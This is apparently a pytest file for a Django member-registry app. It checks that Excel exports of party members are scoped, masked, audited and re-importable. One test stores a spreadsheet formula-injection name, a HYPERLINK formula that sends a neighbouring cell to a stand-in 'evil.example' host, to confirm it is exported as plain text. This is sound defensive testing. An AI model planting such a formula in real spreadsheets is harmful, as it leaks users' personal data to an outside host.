"""Member export: scoped, masked like the pages unless revealed by a role that may reveal (and then logged as a
reveal), audited, no formula in any cell, and a revealed export re-imports unchanged."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from conftest import make_member
from grassroots.access.scope import Scope
from grassroots.cli import main
from grassroots.core import idnumber
from grassroots.core.context import acting
from grassroots.core.errors import RuleError
from grassroots.core.models import AuditEntry
from grassroots.members.exporter import cli_export, export_members, template_xlsx
from grassroots.members.headers import ZH_HEADERS
from grassroots.members.importer import apply_import, plan_import
from grassroots.members.models import Member
from grassroots.members.services import member_update


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def read(path: Any) -> list[dict[str, Any]]:
    wb = openpyxl.load_workbook(path)
    rows = list(wb.worksheets[0].iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def export_as(user: Any, org: Any, path: Any, *, reveal: bool = True) -> int:
    with acting(user, "web"):
        return export_members(org, path, scope=Scope(user), reveal=reveal)


def test_export_writes_the_scoped_subtree_with_full_numbers(cast: Any, tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    assert export_as(cast.street_admin, cast.street, path) == 3
    wb = openpyxl.load_workbook(path)
    assert [c.value for c in wb.worksheets[0][1]] == ZH_HEADERS
    rows = read(path)
    by_name = {r["姓名"]: r for r in rows}
    assert set(by_name) == {"李明", "王强", "赵刚"}  # not 孙丽, who is in another street
    li = by_name["李明"]
    assert li["身份证号"] == cast.member.id_number  # the full number
    assert (li["性别"], li["学历"], li["人员类别"], li["党员状态"], li["所在党组织"]) == (
        "女", "大学本科", "在岗职工", "正式党员", "A")
    assert li["入党时间"].date() == cast.member.joined_on  # a real date cell
    assert by_name["赵刚"]["所在党组织"] == "B"
    entry = AuditEntry.objects.filter(action="member.export_reveal").get()  # a reveal, logged as one
    assert (entry.channel, entry.actor_name, entry.org_id) == ("web", "street_admin", cast.street.pk)
    assert entry.changes["extra"]["count"] == 3 and entry.changes["extra"]["revealed"] is True


def test_without_reveal_the_export_is_masked_like_the_page(cast: Any, tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    assert export_as(cast.auditor, cast.street, path, reveal=False) == 3  # an auditor may export, masked
    by_name = {r["姓名"]: r for r in read(path)}
    li = by_name["李明"]
    assert li["身份证号"] == idnumber.mask(cast.member.id_number) == cast.member.id_number_masked
    assert li["联系电话"] == idnumber.mask_phone(cast.member.phone)
    cells = "\n".join(str(v) for r in by_name.values() for v in r.values())
    for m in (cast.member, cast.member_a2, cast.member_b):
        assert m.id_number not in cells and m.phone not in cells
    entry = AuditEntry.objects.get(action="member.export")
    assert entry.changes["extra"]["revealed"] is False
    assert not AuditEntry.objects.filter(action="member.export_reveal").exists()


def test_secretary_exports_only_her_branch(cast: Any, tmp_path: Path) -> None:
    buf = io.BytesIO()
    assert export_as(cast.secretary, cast.branch_a, buf) == 2
    assert {r["姓名"] for r in read(io.BytesIO(buf.getvalue()))} == {"李明", "王强"}
    with pytest.raises(RuleError):
        export_as(cast.secretary, cast.street, tmp_path / "s.xlsx")
    with pytest.raises(RuleError):
        export_as(cast.outsider, cast.street, tmp_path / "s.xlsx")


def test_auditor_may_not_export_full_numbers(cast: Any, tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    before = AuditEntry.objects.count()
    with pytest.raises(RuleError, match="full ID numbers and phones of 3"):
        export_as(cast.auditor, cast.street, path)
    assert not path.exists()
    assert AuditEntry.objects.count() == before


def test_export_reimports_unchanged(cast: Any, tmp_path: Path) -> None:
    with acting(None, "system"):
        member_update(cast.member, party_group=cast.group_a1, ethnicity="壮族")
        make_member(cast.branch_b, name="新人", status="probationary", converted_on=None, education="college",
                    occupation="retired", phone="")
        old = make_member(cast.branch_a, name="老党员", converted_on=None)  # full, conversion date unknown
    assert Member.objects.get(pk=old.pk).converted_on is None
    path = tmp_path / "s.xlsx"
    count = export_as(cast.street_admin, cast.street, path)
    before = (Member.objects.count(), AuditEntry.objects.count())
    with acting(cast.street_admin, "web"):
        plan = plan_import(path, path.name)
        assert plan.ok, plan.errors
        assert plan.counts == {"create": 0, "update": 0, "unchanged": count}
        assert apply_import(plan).applied
    assert (Member.objects.count(), AuditEntry.objects.count()) == before
    group_cells = {r["姓名"]: r["党小组"] for r in read(path)}
    assert group_cells["李明"] == "A1"


def test_cli_export(cast: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "a.xlsx"
    assert cli_export(cast.branch_a, path, actor=cast.secretary, reveal=True) == 0
    assert "exported 2 members" in capsys.readouterr().out
    assert AuditEntry.objects.filter(action="member.export_reveal", channel="cli").count() == 1
    assert cli_export(cast.street, tmp_path / "b.xlsx", actor=cast.auditor, reveal=True) == 1
    assert "full ID numbers" in capsys.readouterr().err
    assert not (tmp_path / "b.xlsx").exists()


def test_the_cli_masks_unless_a_user_who_may_reveal_asks(cast: Any, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    masked, full = tmp_path / "masked.xlsx", tmp_path / "full.xlsx"
    # without --reveal: masked, even for the operator (no --as)
    assert main(["export", "members", "--org", "A", str(masked)]) == 0
    assert main(["export", "members", "--org", "A", "--as", "auditor", str(tmp_path / "m2.xlsx")]) == 0
    for path in (masked, tmp_path / "m2.xlsx"):
        numbers = {r["身份证号"] for r in read(path)}
        assert cast.member.id_number not in numbers and cast.member.id_number_masked in numbers
    assert not AuditEntry.objects.filter(action="member.export_reveal").exists()
    # --reveal needs a named user whose role may reveal
    assert main(["export", "members", "--org", "A", "--reveal", str(full)]) == 1
    assert "--as" in capsys.readouterr().err
    assert main(["export", "members", "--org", "A", "--as", "auditor", "--reveal", str(full)]) == 1
    assert not full.exists()
    assert main(["export", "members", "--org", "A", "--as", "secretary", "--reveal", str(full)]) == 0
    assert cast.member.id_number in {r["身份证号"] for r in read(full)}
    entry = AuditEntry.objects.get(action="member.export_reveal")
    assert (entry.channel, entry.actor_name, entry.changes["extra"]["count"]) == ("cli", "secretary", 2)


def test_a_formula_in_a_name_is_text_in_the_web_and_cli_exports(cast: Any, tmp_path: Path) -> None:
    from django.urls import reverse

    from grassroots.ui.testing import client_as
    from grassroots.ui.tests.test_xlsx import assert_text_cells

    evil = '=HYPERLINK("http://evil.example/?"&E2,"张三")'
    with acting(None, "system"):
        make_member(cast.branch_a, name=evil, phone="+8613800138000")
    path = tmp_path / "a.xlsx"
    assert main(["export", "members", "--org", "A", "--as", "secretary", "--reveal", str(path)]) == 0
    assert_text_cells(path.read_bytes(), [evil, "+8613800138000"])
    masked = tmp_path / "m.xlsx"
    assert main(["export", "members", "--org", "A", str(masked)]) == 0
    assert_text_cells(masked.read_bytes(), [evil])
    page = client_as(cast, "street_admin").get(reverse("org-detail", args=["A"]), {"format": "xlsx"})
    assert_text_cells(page.content, [evil])
    # and the revealed export still re-imports as it was, the name unchanged
    with acting(cast.secretary, "web"):
        plan = plan_import(path, path.name)
    assert plan.ok, plan.errors
    assert plan.counts["unchanged"] == 3 and plan.counts["create"] == 0


def test_template_is_an_empty_sheet_with_the_chinese_headers(cast: Any, tmp_path: Path) -> None:
    data = template_xlsx()
    wb = openpyxl.load_workbook(io.BytesIO(data))
    sheet = wb.worksheets[0]
    assert [c.value for c in sheet[1]] == ZH_HEADERS
    assert all(v is None for r in sheet.iter_rows(min_row=2, values_only=True) for v in r)
    with acting(cast.secretary, "web"):
        plan = plan_import(io.BytesIO(data), "template.xlsx")
    assert plan.ok and plan.rows == []
    # filled in, it imports
    sheet.append(["周一", "男", "汉族", None, idnumber.make("110101", dt.date(1985, 1, 2), 7), "本科", "在岗职工", None,
                  dt.date(2010, 7, 1), None, "A", "13500000000", None])
    buf = io.BytesIO()
    wb.save(buf)
    with acting(cast.secretary, "web"):
        plan = plan_import(buf, "template.xlsx")
    assert plan.ok, plan.errors
    assert plan.rows[0].action == "create"


def test_the_template_lists_every_label_the_import_accepts() -> None:
    import io as _io

    import openpyxl as _openpyxl

    from grassroots.members.exporter import template_xlsx

    notes = _openpyxl.load_workbook(_io.BytesIO(template_xlsx())).worksheets[1]
    accepted = {row[0]: row[2] or "" for row in notes.iter_rows(min_row=2, values_only=True)}
    for label in ("自由职业者", "灵活就业", "未就业高校毕业生", "退役军人", "本科", "大学本科", "硕士", "博士", "男性"):
        assert any(label in text for text in accepted.values()), label
